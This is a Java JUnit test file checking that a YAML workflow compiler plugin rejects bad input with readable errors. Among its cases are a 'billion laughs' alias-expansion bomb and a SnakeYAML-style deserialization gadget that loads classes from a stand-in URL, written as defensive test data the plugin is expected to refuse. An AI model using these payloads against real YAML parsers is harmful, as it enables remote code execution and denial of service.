package dev.victor.workflow.yaml.internal;

import dev.victor.workflow.api.InvalidWorkflowException;
import dev.victor.workflow.api.Problem;
import dev.victor.workflow.api.WorkflowCompilerPlugin;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Bad input through the plugin, as a user meets it: each is an {@link InvalidWorkflowException}
 * whose message names the file, line and column and says what is wrong (no stack trace, no
 * exception class name in the words). Cases the kernel's reader decides are in
 * {@code KernelBadInputTest}.
 */
class BadInputTest {
    @TempDir
    Path dir;

    private final WorkflowCompilerPlugin plugin = YamlFiles.plugin();

    private Problem error(String fileName, byte[] content) throws Exception {
        Path file = dir.resolve(fileName);
        Files.write(file, content);
        InvalidWorkflowException e = catchThrowableOfType(InvalidWorkflowException.class,
                () -> plugin.compile(file.toString(), null, true));
        assertThat(e).as("an error for " + fileName).isNotNull();
        assertThat(e.errors()).isNotEmpty();
        Problem problem = e.errors().get(0);
        assertThat(problem.source()).isEqualTo(file.toString());
        assertThat(e.getMessage()).as("a message for people").doesNotContain("Exception").doesNotContain("\tat ")
                .contains(file.toString());
        return problem;
    }

    private Problem error(String fileName, String content) throws Exception {
        return error(fileName, content.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void emptyFile() throws Exception {
        Problem problem = error("empty.yaml", "");
        assertThat(problem.message()).startsWith("the document is empty");
        assertThat(problem.line()).isEqualTo(1);
    }

    @Test
    void fiftyMegabyteDocument() throws Exception {
        Path file = dir.resolve("huge.yaml");
        byte[] line = "- xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
                .getBytes(StandardCharsets.US_ASCII);
        try (var out = Files.newOutputStream(file)) {
            for (int written = 0; written < 50 * 1024 * 1024; written += line.length) {
                out.write(line);
            }
        }
        InvalidWorkflowException e = assertTimeoutPreemptively(Duration.ofSeconds(2), () ->
                catchThrowableOfType(InvalidWorkflowException.class, () -> plugin.compile(file.toString(), null, true)));
        assertThat(e.getMessage()).contains(file.toString()).contains("larger than the limit of 10485760 bytes (10 MiB)");
    }

    @Test
    void tenThousandDeepNesting() throws Exception {
        String deep = "workflows:\n  a:\n    nodes: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n";
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> error("deep.yaml", deep));
        assertThat(problem.message()).contains("nests deeper than the limit of 100 levels");
        assertThat(problem.line()).isEqualTo(3);
    }

    @Test
    void billionLaughs() throws Exception {
        StringBuilder yaml = new StringBuilder("workflows:\n  a:\n    metadata:\n");
        yaml.append("      l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int i = 1; i <= 9; i++) {
            yaml.append("      l").append(i).append(": &l").append(i).append(" [");
            for (int k = 0; k < 10; k++) {
                yaml.append(k == 0 ? "" : ", ").append("*l").append(i - 1);
            }
            yaml.append("]\n");
        }
        yaml.append("    nodes: [{id: a}]\n");
        Problem problem = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> error("laughs.yaml", yaml.toString()));
        assertThat(problem.message()).contains("too many aliases: the limit is 50");
        assertThat(problem.line()).isEqualTo(10);
    }

    @Test
    void duplicateKeys() throws Exception {
        Problem problem = error("dup.yaml", """
                workflows:
                  a:
                    nodes:
                      - id: x
                        type: agent
                        type: compute
                """);
        assertThat(problem.message()).isEqualTo("duplicate key 'type' (first written at line 5, column 9)");
        assertThat(problem.line()).isEqualTo(6);
        assertThat(problem.column()).isEqualTo(9);
    }

    @Test
    void invalidUtf8() throws Exception {
        byte[] bytes = "workflows:\n  a:\n    nodes: [{id: caf\u00e9}]\n".getBytes(StandardCharsets.ISO_8859_1);
        Problem problem = error("latin1.yaml", bytes);
        assertThat(problem.message()).contains("not valid UTF-8").contains("0xE9");
        assertThat(problem.line()).isEqualTo(3);
        assertThat(problem.column()).isEqualTo(21);
    }

    @Test
    void objectConstructingTag() throws Exception {
        Problem problem = error("tag.yaml", """
                workflows:
                  a:
                    nodes:
                      - id: x
                        goal: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);
        assertThat(problem.message()).contains("the tag !!javax.script.ScriptEngineManager is not allowed");
        assertThat(problem.line()).isEqualTo(5);
        assertThat(problem.column()).isEqualTo(15);
    }

    @Test
    void syntaxError() throws Exception {
        Problem problem = error("syntax.yaml", """
                workflows:
                  a:
                    nodes:
                      - id: x
                        goal: "unterminated
                """);
        assertThat(problem.message()).startsWith("invalid YAML: ");
        assertThat(problem.line()).isGreaterThanOrEqualTo(5);
    }
}
